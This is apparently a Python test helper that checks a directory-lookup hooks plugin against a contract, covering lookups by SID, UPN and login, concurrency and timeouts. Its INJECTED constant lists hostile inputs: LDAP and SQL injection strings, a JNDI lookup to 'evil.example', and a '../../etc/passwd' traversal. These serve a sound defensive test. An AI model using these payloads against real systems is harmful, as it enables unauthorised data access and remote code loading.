"""Ask a plugin of hooks in a test, as the server does: its settings are read, and its answers are checked.

The plugin runs in the process of the test, so that a debugger sees it. What the server would take for no answer raises
`AssertionError` here, with the reason that the server's log would have.
"""

from __future__ import annotations

import contextlib
import itertools
import tempfile
import time
from collections.abc import Iterator, Mapping
from concurrent import futures
from pathlib import Path
from typing import Any, Final

from postscan.core.errors import PluginError
from postscan.core.filters import loader
from postscan.core.filters.directory import messages
from postscan.core.filters.directory.context import HooksContext
from postscan.core.filters.directory.errors import AccessRefused, DirectoryAway
from postscan.core.filters.directory.hooks import Hooks
from postscan.core.filters.directory.messages import (
    Answer,
    AwayAnswer,
    BrokenAnswer,
    ProcessAnswer,
    ProcessesAnswer,
    ProcessesQuestion,
    ProcessQuestion,
    Question,
    RefusedAnswer,
    UserAnswer,
    UserQuestion,
)
from postscan.core.filters.directory.values import DirectoryProcess, DirectoryUser
from postscan.core.model.json_lines import BadMessage
from postscan.core.registry.directory.questions import mismatch
from postscan.core.workers.orders import hooks as worker

SECONDS: Final = 5.0
"""The default of `directory.answer_seconds`."""

INJECTED: Final = (
    "*",
    "*)(objectClass=*",
    "ann)(|(uid=*",
    "\\2a",
    "ann\0",
    "' OR '1'='1",
    "${jndi:ldap://evil.example}",
    "../../etc/passwd",
    "x" * 1100,
    "\N{LATIN SMALL LETTER U WITH DIAERESIS}\N{ZERO WIDTH SPACE}",
)
"""Names with which strangers try to change the question to a directory; no user has one of them."""


class AskedHooks:
    """A plugin of hooks that is loaded; each call is one question to it."""

    def __init__(self, loaded: loader.LoadedHooks, seconds: float) -> None:
        self.plugin = loaded.plugin
        self.hooks = loaded.names
        self._loaded = loaded
        self._seconds = seconds
        self._numbers = itertools.count(1)

    def find_user(self, *, sid: str = "", upn: str = "", login: str = "") -> DirectoryUser | None:
        """Return the user with this SID, UPN or login name. Raises `DirectoryAway`."""
        answer = self._ask(UserQuestion(id=next(self._numbers), sid=sid, upn=upn, login=login))
        assert isinstance(answer, UserAnswer)
        return answer.user

    def find_process(self, identifier: str, user: DirectoryUser) -> DirectoryProcess | None:
        """Return the process with this GUID for a user. Raises `AccessRefused`, `DirectoryAway`."""
        answer = self._ask(ProcessQuestion(id=next(self._numbers), identifier=identifier.upper(), user=user))
        if isinstance(answer, RefusedAnswer):
            raise AccessRefused(answer.reason)
        assert isinstance(answer, ProcessAnswer)
        return answer.process

    def processes(self, user: DirectoryUser) -> tuple[DirectoryProcess, ...]:
        """Return the processes that a user may use, without XML. Raises `DirectoryAway`."""
        answer = self._ask(ProcessesQuestion(id=next(self._numbers), user=user))
        assert isinstance(answer, ProcessesAnswer)
        return answer.processes

    def _ask(self, question: Question) -> Answer:
        """Return an answer that the server would use; raise `DirectoryAway`, or `AssertionError` with what is wrong."""
        begun = time.monotonic()
        reply = worker.reply_to(self._loaded, question)
        took = time.monotonic() - begun
        assert took <= self._seconds, f"{question.type}: answered after {took:.1f} s; expected {self._seconds:g} s"
        if isinstance(reply, AwayAnswer):
            raise DirectoryAway(reply.reason)
        assert not isinstance(reply, BrokenAnswer), f"{question.type}: {reply.error}\n{reply.traceback}"
        try:
            received = messages.read_plugin(messages.write(reply))
        except BadMessage as error:
            raise AssertionError(f"{question.type}: an invalid answer: {error}") from None
        assert not isinstance(received, messages.HooksDeclared | messages.HooksFailed | messages.HooksLogLine)
        wrong = mismatch(question, received)
        assert not wrong, wrong
        return received


@contextlib.contextmanager
def run_hooks(
    kind: type[Hooks], settings: Mapping[str, Any] | None = None, *, seconds: float = SECONDS
) -> Iterator[AskedHooks]:
    """Load a plugin of hooks with its table of settings, and yield it to be asked; then close it.

    Raises `PluginError` for a class, hooks or settings that the server would refuse.
    """
    loader.check_hooks(kind)
    with tempfile.TemporaryDirectory(prefix="hooks-") as workdir:
        values = loader.hooks_settings("under-test", kind, dict(settings or {}))
        loaded = loader.make_hooks(kind, HooksContext("under-test", values, seconds, Path(workdir)))
        lacks = " ".join(map(str, loaded.plugin.requires()))
        if lacks:
            raise PluginError(lacks)
        try:
            yield AskedHooks(loaded, seconds)
        finally:
            loaded.plugin.close()


def assert_hooks_contract(
    kind: type[Hooks], settings: Mapping[str, Any] | None = None, *, known: DirectoryUser, seconds: float = SECONDS
) -> None:
    """Check a plugin that finds users against the contract, on a directory that has the user *known*.

    The user is found by SID, and by UPN and login name if it has these, always the same; nobody is found under names
    with which strangers change questions; a stranger's SID is `None`; and `at_once` questions at once get their own
    answers.
    """
    with run_hooks(kind, settings, seconds=seconds) as asked:
        found = asked.find_user(sid=known.sid)
        assert found == known, f"by SID: {found}; expected {known}"
        for name, value in (("upn", known.upn), ("login", known.login)):
            if value:
                found = asked.find_user(**{name: value})
                assert found == known, f"by {name}: {found}; expected {known}"
        for text in INJECTED:
            for name in ("upn", "login"):
                found = asked.find_user(**{name: text})
                assert found is None, f"{name} {text!r:.60}: expected no user, found {found}"
        stranger = "S-1-5-21-0-0-0-4294967295"
        assert asked.find_user(sid=stranger) is None, f"{stranger}: expected no user"
        _assert_own_answers(asked, known, stranger)


def _assert_own_answers(asked: AskedHooks, known: DirectoryUser, stranger: str) -> None:
    most = min(asked.plugin.at_once, messages.AT_ONCE)
    with futures.ThreadPoolExecutor(most) as threads:
        for found, sid in [
            (threads.submit(asked.find_user, sid=sid), sid) for sid in (known.sid, stranger) * (2 * most)
        ]:
            expected = known if sid == known.sid else None
            assert found.result() == expected, f"{sid}, at once with others: {found.result()}; expected {expected}"
